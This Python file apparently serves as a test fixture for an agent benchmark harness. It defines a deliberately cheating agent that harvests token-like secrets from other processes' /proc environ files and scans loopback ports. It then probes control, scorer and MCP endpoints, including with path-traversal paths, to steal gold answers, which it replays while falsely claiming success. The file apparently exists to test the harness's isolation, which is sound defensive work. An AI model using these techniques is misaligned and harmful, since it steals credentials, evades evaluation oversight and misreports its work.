"""A cheating agent under test: instead of serving the customer it looks for the answers.

On its first turn it finds every TCP port listening on this machine's loopback (from /proc/net, as any
local process can), every token-looking value in the environment of every process it may read, and
then tries, on every port: the control API's documented routes (the task list, the expected outcome of
its task under guessed ids, the episodes, their state and tool log, finishing and resetting its own
episode), without a token, with its own episode's token and with every token it found; the gRPC
simulator and scorer methods; and its MCP endpoint's host with the control paths and path tricks.
Every attempt is kept. Should one give it its task's gold actions, it replays them and claims
success; otherwise it answers as an honest agent that does nothing would.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import re
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import grpc
import httpx2

from taue.runner.agents.base import EpisodeContext
from taue.runner.mcp_session import episode_session

HONEST_REPLY = "I'm sorry, I can't help with that today."
LOOPBACK = {
    "0100007F",
    "00000000",
    "00000000000000000000000000000000",
    "00000000000000000000000001000000",
    "0000000000000000FFFF00000100007F",
}
"""127.0.0.1, 0.0.0.0, ::, ::1 and ::ffff:127.0.0.1 as /proc/net/tcp{,6} write them."""
TOKEN_LIKE = re.compile(r"(TOKEN|KEY|SECRET)=([^\x00]{8,200})")
GRPC_METHODS = ("/taue.v1.Scorer/Score", "/taue.v1.Simulator/StartSession", "/taue.v1.Simulator/Respond")


@dataclass
class Attempt:
    port: int
    kind: str
    """http or grpc."""
    target: str
    auth: str
    outcome: str
    """The HTTP status, the gRPC status code name, or the transport error."""
    body: str = ""


def listening_ports() -> set[int]:
    ports = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        with contextlib.suppress(OSError):
            for line in Path(table).read_text().splitlines()[1:]:
                fields = line.split()
                address, port = fields[1].rsplit(":", 1)
                if fields[3] == "0A" and address in LOOPBACK:  # 0A: LISTEN
                    ports.add(int(port, 16))
    return ports


def tokens_in_the_environment() -> set[str]:
    """Every value of a variable named like a token, key or secret in the readable /proc/*/environ."""
    found = set()
    for environ in Path("/proc").glob("[0-9]*/environ"):
        with contextlib.suppress(OSError):
            text = environ.read_bytes().decode("utf-8", "replace")
            found |= {value for _, value in TOKEN_LIKE.findall(text)}
    return found


def guessed_task_ids(domain: str) -> list[str]:
    return [f"{domain}-{n:03d}{suffix}" for n in range(1, 4) for suffix in ("", "-neutral")]


def control_routes(domain: str, episode_id: str) -> list[tuple[str, str]]:
    routes = [("GET", path) for path in ("/domain", "/tasks", "/tasks?split=train", "/policy", "/episodes")]
    routes += [("GET", "/openapi.json"), ("GET", "/docs")]
    for task_id in guessed_task_ids(domain):
        routes += [("GET", f"/tasks/{task_id}"), ("GET", f"/tasks/{task_id}/expected")]
    for suffix in ("", "/state", "/tool-log"):
        routes.append(("GET", f"/episodes/{episode_id}{suffix}"))
    routes += [("POST", "/episodes"), ("POST", f"/episodes/{episode_id}/reset")]
    return routes


@dataclass
class Cheater:
    """One episode of the cheating agent (the runner's `Agent` protocol, served over HTTP)."""

    own_port: int
    attempts: list[Attempt] = field(default_factory=list)
    context: EpisodeContext | None = None

    async def start(self, context: EpisodeContext) -> None:
        self.context = context

    async def respond(self, user_message: str) -> str:
        assert self.context is not None
        if not self.attempts:
            gold = await self.look_for_answers()
            if gold:
                await self.replay(gold)
                return "All done: everything you asked for is taken care of."
        return HONEST_REPLY

    async def close(self) -> None:
        return None

    async def look_for_answers(self) -> list[dict[str, Any]]:
        assert self.context is not None
        server = self.context.mcp_servers[0]
        episode_token = server.headers["Authorization"].removeprefix("Bearer ")
        auths = {"none": None, "episode token": episode_token}
        auths |= {f"found {n}": token for n, token in enumerate(sorted(tokens_in_the_environment()))}
        ports = sorted(listening_ports() - {self.own_port})
        routes = control_routes(self.context.domain, self.context.episode_id)
        async with httpx2.AsyncClient(timeout=1) as http:
            found = await asyncio.gather(
                *(self.try_port(http, port, routes, auths) for port in ports),
                self.try_mcp_host(http, server.url, episode_token),
            )
        await asyncio.gather(*(self.try_grpc(port, episode_token) for port in ports))
        return [call for calls in found for call in calls]

    async def try_port(
        self, http: httpx2.AsyncClient, port: int, routes: list[tuple[str, str]], auths: dict[str, str | None]
    ) -> list[dict[str, Any]]:
        gold: list[dict[str, Any]] = []
        for method, path in routes:
            for auth, token in auths.items():
                gold += await self.try_http(http, port, method, path, auth, token)
        return gold

    async def try_http(
        self, http: httpx2.AsyncClient, port: int, method: str, path: str, auth: str, token: str | None
    ) -> list[dict[str, Any]]:
        headers = {"Authorization": f"Bearer {token}"} if token else {}
        url = f"http://127.0.0.1:{port}{path}"
        try:
            body = {} if method == "POST" else None
            response = await http.request(method, url, headers=headers, json=body)
        except httpx2.HTTPError as exc:
            self.attempts.append(Attempt(port, "http", f"{method} {path}", auth, type(exc).__name__))
            return []
        outcome = str(response.status_code)
        self.attempts.append(Attempt(port, "http", f"{method} {path}", auth, outcome, response.text[:300]))
        return gold_in(response)

    async def try_mcp_host(self, http: httpx2.AsyncClient, mcp_url: str, token: str) -> list[dict[str, Any]]:
        """The control paths on the MCP port, with the episode's token, and path tricks around it."""
        parts = urlsplit(mcp_url)
        origin, port = f"{parts.scheme}://{parts.netloc}", parts.port or 80
        assert self.context is not None
        paths = [path for _, path in control_routes(self.context.domain, self.context.episode_id)]
        paths += [
            f"{parts.path}/../../../tasks",
            f"{parts.path}/%2e%2e/%2e%2e/tasks",
            f"{parts.path}/../state",
        ]
        gold = []
        for path in paths:
            target = f"GET {path} (MCP port)"
            try:
                response = await http.get(origin + path, headers={"Authorization": f"Bearer {token}"})
            except httpx2.HTTPError as exc:
                self.attempts.append(Attempt(port, "http", target, "episode token", type(exc).__name__))
                continue
            outcome = str(response.status_code)
            self.attempts.append(Attempt(port, "http", target, "episode token", outcome, response.text[:300]))
            gold += gold_in(response)
        return gold

    async def try_grpc(self, port: int, token: str) -> None:
        async with grpc.aio.insecure_channel(f"127.0.0.1:{port}") as channel:
            for method in GRPC_METHODS:
                call = channel.unary_unary(method, request_serializer=_raw, response_deserializer=_raw)
                for auth, metadata in (
                    ("none", ()),
                    ("episode token", (("authorization", f"Bearer {token}"),)),
                ):
                    try:
                        await call(b"", timeout=2, metadata=metadata)
                        outcome = "OK"
                    except grpc.aio.AioRpcError as exc:
                        outcome = exc.code().name
                    self.attempts.append(Attempt(port, "grpc", method, auth, outcome))

    async def replay(self, gold: list[dict[str, Any]]) -> None:
        assert self.context is not None
        server = self.context.mcp_servers[0]
        async with episode_session(server.url, server.headers) as client:
            for call in gold:
                await client.call_tool(call["name"], call.get("arguments", {}))


def _raw(data: bytes) -> bytes:
    return data


def gold_in(response: httpx2.Response) -> list[dict[str, Any]]:
    """The gold actions an answer gives away (an expected outcome, or a task with its evaluation)."""
    if response.status_code != 200:
        return []
    try:
        body = json.loads(response.text)
    except ValueError:
        return []
    if isinstance(body, dict) and isinstance(body.get("gold"), list):
        return body["gold"]
    evaluation = body.get("evaluation") if isinstance(body, dict) else None
    if isinstance(evaluation, dict) and isinstance(evaluation.get("actions"), list):
        return evaluation["actions"]
    return []
